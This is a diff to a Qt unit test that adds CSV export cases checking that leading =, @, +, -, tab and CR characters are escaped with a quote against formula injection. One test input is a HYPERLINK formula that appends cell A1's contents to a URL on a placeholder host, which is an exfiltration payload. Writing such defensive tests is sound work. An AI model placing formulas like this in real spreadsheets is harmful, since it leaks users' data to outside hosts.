@@ -45,6 +45,10 @@ void TestRunReport::csvRoundTrip_data()
     QTest::newRow("lone CR") << list({ "a\rb" }) << QByteArray("\"a\rb\"\r\n");
     QTest::newRow("UTF-8") << list({ "Café ☕" }) << QByteArray("Caf\xc3\xa9 \xe2\x98\x95\r\n");
     QTest::newRow("quote inside an unquoted-looking field") << list({ "5\" disk" }) << QByteArray("\"5\"\" disk\"\r\n");
+    QTest::newRow("formula") << list({ "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "a=b" })
+                             << QByteArray("\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\",a=b\r\n");
+    QTest::newRow("text marks") << list({ "@SUM(1)", "+1", "-1", "\tx", "\rx", "'=1", "'" })
+                                << QByteArray("\"'@SUM(1)\",\"'+1\",\"'-1\",\"'\tx\",\"'\rx\",\"''=1\",\"''\"\r\n");
 }
 
 void TestRunReport::csvRoundTrip()
